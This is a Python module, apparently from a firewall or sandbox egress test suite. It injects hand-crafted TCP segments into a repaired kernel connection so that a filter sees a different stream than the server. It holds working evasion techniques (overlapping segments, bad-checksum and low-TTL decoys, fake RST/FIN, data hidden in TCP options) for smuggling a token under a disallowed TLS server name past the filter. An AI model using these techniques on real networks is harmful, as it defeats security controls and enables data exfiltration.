# SPDX-License-Identifier: GPL-2.0-or-later
"""Segments by hand, into a connection that the kernel made: another stream for the fence than for the server.
As root, without the sandbox."""
import socket
import time

import wire
from attempts import TCP_QUEUE_SEQ, TCP_REPAIR, TCP_REPAIR_QUEUE, attempt, family, stay, tcp

APART = 0.1  # seconds: the first segment has been judged


class Flow:
    """A connection made by the kernel, into which segments are put by hand."""

    def __init__(self, to, port):
        self.s = tcp(to, port)
        self.src, self.sport = self.s.getsockname()[:2]
        self.dst, self.dport = to, port
        self.s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
        seqs = []
        for queue in (2, 1):  # send, receive
            self.s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
            seqs.append(self.s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xffffffff)
        self.seq, self.ack = seqs
        # Left in repair: the kernel's own stack stays silent about this connection.
        self.ts = b""
        v6 = ":" in to
        self.raw = socket.socket(family(to), socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.v6 = v6

    def send(self, offset, payload=b"", flags=wire.ACK | wire.PSH, ttl=64, **kw):
        seg = wire.tcp(self.src, self.dst, self.sport, self.dport, self.seq + offset, self.ack, flags,
                       payload, **kw)
        pkt = (wire.ipv6(self.src, self.dst, 6, seg, hops=ttl) if self.v6 else
               wire.ipv4(self.src, self.dst, 6, seg, ttl=ttl))
        attempt(lambda: self.raw.sendto(pkt, (self.dst, 0)))


def seg(offset, payload=b"", *flags, **kw):
    return lambda f: f.send(offset, payload, *flags, **kw)


def apart(first, then):
    """The first segment has been judged when the second comes."""
    return [first, lambda f: time.sleep(APART), then]


def ways(a, good, bad):
    """The segments that are sent, by the name of the way."""
    tok, cut = a["token"].encode(), len(bad) // 2
    every = wire.ACK | wire.PSH
    return {
        "plain": [seg(0, bad)],
        "good": [seg(0, wire.client_hello(a["sni"], tok))],
        "reversed": [seg(at, bad[at:at + 50]) for at in reversed(range(0, len(bad), 50))],
        # whose bytes count?
        "overlap, good first": [seg(cut, good[cut:]), seg(cut, bad[cut:]), seg(0, bad[:cut])],
        "overlap, bad first": [seg(cut, bad[cut:]), seg(cut, good[cut:]), seg(0, good[:cut]), seg(0, bad[:cut])],
        "same seq twice": [seg(1, bad[1:]), seg(1, good[1:]), seg(0, good[:1])],
        "bad checksum": apart(seg(0, good, bad=True), seg(0, bad)),
        "low ttl": apart(seg(0, good, ttl=1), seg(0, bad)),
        "wrong seq": apart(seg(100000000, good), seg(0, bad)),
        "before the window": apart(seg(-len(good), good), seg(0, bad)),
        "ahead in the window": apart(seg(5000, good), seg(0, bad)),
        "fake rst": [seg(50000, b"", wire.RST), seg(0, bad)],
        "fake fin": [seg(0, b"", wire.FIN | wire.ACK), seg(0, bad)],
        "fin with data": [seg(0, bad, wire.FIN | every)],
        "rst with data": [seg(0, bad, wire.RST | wire.ACK)],
        "syn with data": [seg(-1, bad, wire.SYN)],
        "no flags": [seg(0, bad, 0)],
        "no ack": [seg(0, bad, wire.PSH)],
        "urgent": [seg(0, bad, every | wire.URG, urg=5)],
        # one byte at seq - 1: a keep-alive with data
        "keepalive byte": [seg(-1, bytes([b]), wire.ACK) for b in tok],
        "in options": [seg(0, b"", wire.ACK, options=(b"\xfd" + bytes([len(tok) + 2]) + tok).ljust(24, b"\1"))],
    }


KEPT = []  # sockets that stay open: their close would send


def crafted(a):
    """One way (a["how"]) to show the fence another stream than the server gets. good: a hello with the
    allowed name; bad: the one with the token."""
    f = Flow(a["to"], a["port"])
    KEPT.append(f)
    good = wire.client_hello(a["sni"])
    bad = wire.client_hello(a["evil"], a["token"].encode())
    for send in ways(a, good, bad)[a["how"]]:
        send(f)
    stay(a.get("wait", 0.3))
    return {"sent": max(len(good), len(bad))}
